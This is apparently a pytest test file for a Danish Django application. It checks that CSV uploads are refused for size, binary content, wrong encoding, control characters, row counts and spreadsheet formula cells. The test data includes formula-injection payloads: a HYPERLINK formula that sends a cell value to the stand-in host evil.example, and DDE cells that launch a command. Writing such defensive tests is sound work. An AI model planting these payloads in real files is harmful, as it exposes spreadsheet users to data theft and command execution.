"""CSV uploads (ASVS V12.1.1, V12.2.1, V5.2.x; issue 10 §3): size, type by content, encoding,
row count and formula cells are checked before anything is parsed further; a refused file
gives a Danish message naming the rule, HTTP 400, and writes nothing anywhere."""

from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from investering import csvimport
from investering.models import Omkostningslinje
from kerne import csvfil
from kerne.models import Rolle
from registrering import services as reg_services
from registrering.models import Indlaesning

INVESTERING = "cpr;familie;omkostningstype;antal;fra;til;enhedspris;begrundelse"
REGISTRERING = "cpr;maaned;indikator;vaerdi"


def _read(content: bytes, **limits):
    return csvfil.read_rows(
        content,
        required=["cpr", "vaerdi"],
        max_bytes=limits.get("max_bytes", 10_000),
        max_rows=limits.get("max_rows", 10),
    )


def test_a_plain_utf8_file_is_read_with_line_numbers():
    header, rows = _read("\ufeffcpr;vaerdi\n010110-1234;12,5\n\n020220-2345;-3\n".encode())
    assert header == ["cpr", "vaerdi"]
    assert rows == [
        (2, {"cpr": "010110-1234", "vaerdi": "12,5"}),
        (4, {"cpr": "020220-2345", "vaerdi": "-3"}),
    ]


@pytest.mark.parametrize(
    ("content", "limits", "message"),
    [
        (b"cpr;vaerdi\n" + b"1;2\n" * 3000, {}, "højst fylde"),
        (b"cpr;vaerdi\n1;2\x00\x01\x02\n", {}, "binære data"),
        (b"%PDF-1.7\ncpr;vaerdi\n", {}, "binære data"),
        (b"PK\x03\x04cpr;vaerdi\n", {}, "binære data"),
        ("cpr;vaerdi\n1;Kontanthjælp\n".encode("cp1252"), {}, "UTF-8"),
        (b"cpr;vaerdi\n1;2\x1b[31m\n", {}, "kontroltegn"),
        (b"", {}, "tom"),
        (b"navn;by\nA;B\n", {}, "mangler kolonnerne: cpr, vaerdi"),
        (b"cpr;vaerdi\n" + b"1;2\n" * 11, {}, "mere end 10 rækker"),
    ],
    ids=["too-big", "nul-bytes", "pdf", "zip", "cp1252", "control", "empty", "header", "rows"],
)
def test_a_bad_file_is_refused_with_the_rule_named(content, limits, message):
    with pytest.raises(csvfil.CsvFileError, match=message):
        _read(content, **limits)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1;"Klik")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '"\t=1+1"',
        '"\r=1+1"',
    ],
)
def test_a_formula_cell_is_refused_with_its_line_and_column(cell):
    content = f"cpr;vaerdi\n010110-1234;5\n010110-1234;{cell}\n".encode()
    with pytest.raises(csvfil.CsvFileError, match=r"Linje 3, kolonne vaerdi: .*regnearksformel"):
        _read(content)


def _files_under(root: Path) -> set[Path]:
    return (
        {path for path in Path(root).rglob("*") if path.is_file()} if Path(root).exists() else set()
    )


BAD_FILES = {
    "too-big": lambda header: (header + "\n" + "x;" * 1_100_000).encode(),
    "binary": lambda header: b"\x89PNG\r\n\x1a\n\x00\x00" + header.encode(),
    "cp1252": lambda header: (header + "\n010110-1234;;Kørsel;1;01-01-2025;;;\n").encode("cp1252"),
    "formula": lambda header: (header + '\n=HYPERLINK("http://x");;;1;;;;\n').encode(),
    "too-many-rows": lambda header: (header + "\n" + "010110-1234;1;x;1\n" * 20_001).encode(),
}
MESSAGES = {
    "too-big": "højst fylde 2",
    "binary": "binære data",
    "cp1252": "UTF-8",
    "formula": "regnearksformel",
    "too-many-rows": "rækker",
}


@pytest.mark.django_db
@pytest.mark.parametrize("bad", sorted(BAD_FILES))
@pytest.mark.parametrize(
    ("url_name", "header", "extra"),
    [
        ("investering:importer", INVESTERING, {"proeve": ""}),
        ("registrering:indlaesning_ny", REGISTRERING, {}),
    ],
    ids=["investering", "registrering"],
)
def test_every_upload_page_refuses_a_bad_file_and_writes_nothing(
    client, make_user, settings, bad, url_name, header, extra
):
    if bad == "too-many-rows" and url_name == "investering:importer":
        content = (
            INVESTERING + "\n" + ";1;x;1;01-01-2025;;;\n" * (csvimport.MAX_ROWS + 1)
        ).encode()
    else:
        content = BAD_FILES[bad](header)
    client.force_login(make_user(Rolle.PROJEKTLEDER))
    before = _files_under(settings.MEDIA_ROOT) | _files_under(settings.STATIC_ROOT)

    response = client.post(
        reverse(url_name), {"fil": SimpleUploadedFile("data.csv", content, "text/csv"), **extra}
    )

    assert response.status_code == 400
    assert MESSAGES[bad] in response.content.decode()
    assert not Omkostningslinje.objects.exists()
    assert not Indlaesning.objects.exists()
    after = _files_under(settings.MEDIA_ROOT) | _files_under(settings.STATIC_ROOT)
    assert after == before  # nothing kept on disk, least of all under the web root


def test_the_limits_are_the_documented_ones():
    assert csvimport.MAX_BYTES == reg_services.IMPORT_MAX_BYTES == 2 * 1024 * 1024
    assert (csvimport.MAX_ROWS, reg_services.IMPORT_MAX_ROWS) == (5000, 20_000)
